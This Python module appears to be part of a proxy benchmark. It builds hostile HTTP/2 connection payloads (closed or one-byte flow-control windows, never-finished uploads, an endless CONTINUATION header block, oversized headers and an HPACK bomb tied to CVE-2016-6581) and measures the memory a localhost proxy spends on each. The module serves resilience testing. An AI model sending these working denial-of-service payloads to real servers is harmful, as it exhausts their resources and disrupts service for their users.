"""Clients of HTTP/2 that mean no good: what each sends on a connection, and what the connection costs the proxy."""
import dataclasses
import socket
import ssl
import struct
import time

from . import idle, servers

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 4, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW = 4
LARGEST = 16_384  # Bytes in a frame.
STREAMS = 128  # As many requests as a proxy allows at a time, or more than it does.
SETTLE = 2.0  # Seconds from the last byte until it is looked at what it has cost.


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, bits, pattern=0):
    """RFC 7541, section 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([pattern | value])
    octets, value = [pattern | most], value - most
    while value >= 128:
        octets.append(value % 128 + 128)
        value //= 128
    return bytes([*octets, value])


def text(value):
    return integer(len(value), 7) + value.encode()


def field(name, value, pattern=0x00, bits=4):
    return bytes([pattern]) + text(name) + text(value)


def request(path, method="GET", fields=(), more=b""):
    """A block of fields that changes no table, with `more` behind it."""
    pseudo = [(":method", method), (":scheme", "https"), (":authority", "bench.example"), (":path", path)]
    return b"".join(field(*each) for each in [*pseudo, *fields]) + more


def headers(stream, block, end=True):
    """A block in as many frames as it takes."""
    parts = [block[at:at + LARGEST] for at in range(0, len(block), LARGEST)]
    kinds = [HEADERS] + [CONTINUATION] * (len(parts) - 1)
    flags = [END_STREAM if end else 0] + [0] * (len(parts) - 1)
    flags[-1] |= END_HEADERS
    return b"".join(frame(kind, flag, stream, part) for kind, flag, part in zip(kinds, flags, parts))


def numbers():
    return range(1, 2 * STREAMS, 2)


def begin(window=None):
    return PREFACE + frame(SETTINGS, 0, 0, b"" if window is None else struct.pack(">HI", INITIAL_WINDOW, window))


def nothing():
    return begin()


def closed_windows():
    """Asks for much and takes none of it."""
    return begin(0) + b"".join(headers(n, request("/64k")) for n in numbers())


def tiny_windows():
    """Asks for much and takes one byte of each."""
    return begin(1) + b"".join(headers(n, request("/64k")) for n in numbers())


def no_reading():
    """Asks for much, may be sent all of it, and does not read."""
    wide = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))
    return begin(1 << 20) + wide + b"".join(headers(n, request("/64k")) for n in numbers())


def unfinished_uploads():
    """Sends as much content as it may, and never the end."""
    posts = b"".join(headers(n, request("/", "POST"), end=False) for n in numbers())
    return begin() + posts + b"".join(frame(DATA, 0, n, bytes(512)) for n in numbers())


def unfinished_head():
    """A block of fields that goes on, frame after frame."""
    rest = b"".join(frame(CONTINUATION, 0, 1, field("a", "b" * 1000)) for _ in range(28))
    return begin() + frame(HEADERS, END_STREAM, 1, request("/1k")) + rest


def large_heads():
    """Heads near the limit, whose content never comes."""
    fields = [(f"x-{index}", "v" * 1000) for index in range(24)]
    return begin() + b"".join(headers(n, request("/", "POST", fields), end=False) for n in numbers())


def bomb():
    """A field of 3,900 bytes goes into the table once, and each request names it seven times with a byte (CVE-2016-6581)."""
    large = bytes([0x40]) + text("x-bomb") + text("v" * 3_900)
    again = bytes([0x80 | 62]) * 7
    requests = [headers(n, request("/1k", "POST", more=large + again if n == 1 else again), end=False) for n in numbers()]
    return begin() + b"".join(requests)


@dataclasses.dataclass(frozen=True)
class Attack:
    title: str
    bytes: object
    connections: int = 20


ATTACKS = [
    Attack("nothing but a beginning", nothing, 500),
    Attack("128 requests, windows closed", closed_windows),
    Attack("128 requests, windows of one byte", tiny_windows),
    Attack("128 requests, nothing read", no_reading),
    Attack("128 uploads without an end", unfinished_uploads),
    Attack("a head without an end", unfinished_head, 100),
    Attack("128 large heads", large_heads),
    Attack("128 heads from a small block (HPACK bomb)", bomb),
]


def connect(port):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    connection = context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=10))
    if connection.selected_alpn_protocol() != "h2":
        raise servers.Failure("the proxy does not speak HTTP/2")
    return connection


def attack(port, payload):
    connection = connect(port)
    try:
        connection.sendall(payload)
    except OSError:
        pass  # It has been told to go: that is an answer, too.
    return connection


def cost(bench, attack_):
    """Bytes of the proxy's own memory for each connection of an attack while it goes on."""
    payload = attack_.bytes()
    first = [attack(bench.port, payload)]  # What is made once for all.
    time.sleep(SETTLE)
    before = idle.private_bytes(bench.pids)
    rest = [attack(bench.port, payload) for _ in range(attack_.connections)]
    time.sleep(SETTLE)
    after = idle.private_bytes(bench.pids)
    for connection in first + rest:
        connection.close()
    return (after - before) / attack_.connections
